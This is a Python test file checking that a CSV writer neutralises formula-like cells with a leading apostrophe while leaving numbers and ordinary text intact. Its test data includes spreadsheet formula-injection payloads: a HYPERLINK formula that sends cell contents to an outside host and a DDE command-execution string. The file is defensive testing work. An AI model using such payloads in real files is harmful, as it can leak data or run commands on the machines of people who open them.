"""A cell of text comes out of a CSV file as text, whatever it begins with, and a number as a number."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from ecg_text.csv_file import write_csv


def written(path: Path, *cells: object) -> list[str]:
    write_csv(path, ("a",) * len(cells), [cells])
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))[1]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://there/?"&A1,"normal")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1-1",
        "-2+3+cmd.hea",
        "@SUM(A1)",
        "\t=1",
        "\n=1",
        "-",
        "=",
        "-1\t",
        "－1－1",
    ],
)
def test_a_text_that_begins_a_formula_gets_an_apostrophe(tmp_path: Path, text: str) -> None:
    assert written(tmp_path / "a.csv", text) == [f"'{text}"]


@pytest.mark.parametrize("cell", ["-0.123456", "+0.5", "-3", "-1e-05", -0.5, -3, 0])
def test_a_number_stays_a_number(tmp_path: Path, cell: object) -> None:
    assert written(tmp_path / "a.csv", cell) == [str(cell)]


@pytest.mark.parametrize(
    "text", ["", "a=b", "record-1.hea", "'quoted'", "sinus rhythm, 60/min", "a\nb", 'say "no"', "ä"]
)
def test_other_text_comes_back_as_it_was(tmp_path: Path, text: str) -> None:
    assert written(tmp_path / "a.csv", text) == [text]


@pytest.mark.parametrize("text", ["a\rb", "a\r\nb"])
def test_no_line_end_in_a_cell_breaks_its_row(tmp_path: Path, text: str) -> None:
    assert written(tmp_path / "a.csv", text, "c") == ["a\nb", "c"]
    assert written(tmp_path / "a.csv", "\r=1") == ["'\n=1"]
